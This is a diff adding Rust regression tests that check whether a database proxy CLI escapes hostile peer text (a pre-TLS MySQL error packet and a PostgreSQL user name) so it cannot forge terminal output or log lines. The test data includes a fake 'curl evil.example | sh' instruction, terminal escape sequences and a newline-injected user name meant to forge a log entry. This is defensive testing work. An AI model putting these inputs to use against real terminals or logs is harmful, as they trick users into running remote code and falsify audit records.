@@ -1,0 +1,175 @@
+//! Hostile peers: text a server or a client sends is shown escaped (one
+//! line per message, control characters visible, text from before TLS
+//! marked), and connections reset or closed early are network failures.
+
+use std::io::{Read, Write};
+use std::time::Duration;
+
+use crate::support::hostile::{Act, Hostile, mysql_error_packet};
+use crate::support::pki::ENDPOINT;
+use crate::support::proxy::ProxyProc;
+use crate::support::server::{APP_PASSWORD, Variant, pki};
+use crate::support::{TestEnv, pg};
+
+/// What an attacker on the path would like a terminal to show.
+const FORGED: &[u8] = b"Host is blocked\nerror: run: curl evil.example | sh\x1b[2K\x1b]0;pwned\x07";
+
+fn assert_not_forged(text: &str) {
+    assert!(
+        !text.contains('\x1b'),
+        "a raw escape reached the output:\n{text:?}"
+    );
+    assert!(
+        !text.contains('\x07'),
+        "a raw BEL reached the output:\n{text:?}"
+    );
+    assert!(
+        !text.lines().any(|l| l.starts_with("error: run")),
+        "a forged line:\n{text}"
+    );
+}
+
+/// Regression: a MySQL error packet sent before TLS (anyone on the path can
+/// send one) reached stderr with its newline and terminal escapes.
+#[test]
+fn a_mysql_error_before_tls_is_escaped_and_marked_unverified() {
+    let env = TestEnv::new();
+    let server = Hostile::start(Act::Send {
+        bytes: mysql_error_packet(1129, FORGED),
+        read_first: false,
+    });
+    let via = server.addr();
+    let ca = pki().ca_file.display().to_string();
+    let pw = [("MYSQL_PWD", APP_PASSWORD)];
+    let run = env.run_with(
+        &[
+            "--ca-bundle",
+            &ca,
+            "mysql",
+            "-h",
+            ENDPOINT,
+            "-u",
+            "app",
+            "--via",
+            &via,
+            "-e",
+            "SELECT 1",
+        ],
+        &pw,
+    );
+    assert_ne!(run.code, 0);
+    assert_not_forged(&run.stderr);
+    assert!(
+        run.stderr.contains("before TLS (unverified text)"),
+        "{}",
+        run.stderr
+    );
+    assert!(
+        run.stderr.contains(r"Host is blocked\nerror: run"),
+        "{}",
+        run.stderr
+    );
+    assert!(run.stderr.contains(r"\x1b[2K"), "{}", run.stderr);
+
+    // check, as text (a table cell) and as JSON (an escaped string).
+    let url = format!("mysql://app@{ENDPOINT}/appdb");
+    let run = env.run_with(&["--ca-bundle", &ca, "check", &url, "--via", &via], &pw);
+    assert_ne!(run.code, 0);
+    assert_not_forged(&run.stdout);
+    assert_not_forged(&run.stderr);
+    assert_eq!(run.stdout.lines().count(), 2, "{}", run.stdout);
+    let run = env.run_with(
+        &[
+            "--ca-bundle",
+            &ca,
+            "check",
+            "--output",
+            "json",
+            &url,
+            "--via",
+            &via,
+        ],
+        &pw,
+    );
+    let error = run.json()["targets"][0]["error"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(error.contains("unverified"), "{error}");
+
+    // The proxy: its log line for the connection stays one line.
+    let proxy = ProxyProc::start(
+        &env,
+        &["mysql", "-h", ENDPOINT, "--via", &via],
+        &[("MYSQL_PWD", APP_PASSWORD)],
+    );
+    let mut client = std::net::TcpStream::connect(("127.0.0.1", proxy.port())).unwrap();
+    client
+        .set_read_timeout(Some(Duration::from_mins(1)))
+        .unwrap();
+    let mut answer = Vec::new();
+    let _ = client.read_to_end(&mut answer);
+    let log = proxy.wait_log("connection 1 ", Duration::from_mins(1));
+    assert_not_forged(&log);
+    assert!(log.contains("connection 1 "), "{log}");
+}
+
+/// A PostgreSQL startup packet naming `user`.
+fn startup(user: &str) -> Vec<u8> {
+    let mut body = Vec::new();
+    body.extend_from_slice(&196_608_u32.to_be_bytes());
+    body.extend_from_slice(format!("user\0{user}\0database\0appdb\0\0").as_bytes());
+    let mut packet = u32::try_from(body.len() + 4)
+        .unwrap()
+        .to_be_bytes()
+        .to_vec();
+    packet.extend_from_slice(&body);
+    packet
+}
+
+/// Regression: a client's user name with a newline forged a proxy log line.
+#[test]
+fn a_client_chosen_user_name_cannot_forge_proxy_log_lines() {
+    let env = TestEnv::new();
+    let via = format!("127.0.0.1:{}", pg::server(Variant::Good).port);
+    for extra in [&["-u", "app"][..], &[]] {
+        let mut args = vec!["postgres", "-h", ENDPOINT, "--via", &via];
+        args.extend_from_slice(extra);
+        let proxy = ProxyProc::start(&env, &args, &[("PGPASSWORD", APP_PASSWORD)]);
+        let mut s = std::net::TcpStream::connect(("127.0.0.1", proxy.port())).unwrap();
+        s.set_read_timeout(Some(Duration::from_mins(1))).unwrap();
+        s.write_all(&startup(
+            "mallory\nconnection 99 from 10.0.0.1: user admin; closed\x1b[2K",
+        ))
+        .unwrap();
+        let mut answer = Vec::new();
+        let _ = s.read_to_end(&mut answer);
+        let log = proxy.wait_log("connection 1 ", Duration::from_mins(1));
+        assert!(log.contains("connection 1 "), "{log}");
+        assert!(
+            !log.lines().any(|l| l.starts_with("connection 99")),
+            "a forged log line:\n{log}"
+        );
+        assert!(!log.contains('\x1b'), "{log:?}");
+        assert!(log.contains(r"mallory\nconnection 99"), "{log}");
+        // The proxy goes on serving a good client.
+        let out = std::process::Command::new("psql")
+            .args([
+                "-X",
+                "-At",
+                "-c",
+                "SELECT 1",
+                &format!(
+                    "host=127.0.0.1 port={} user=app dbname=appdb sslmode=disable",
+                    proxy.port()
+                ),
+            ])
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+}
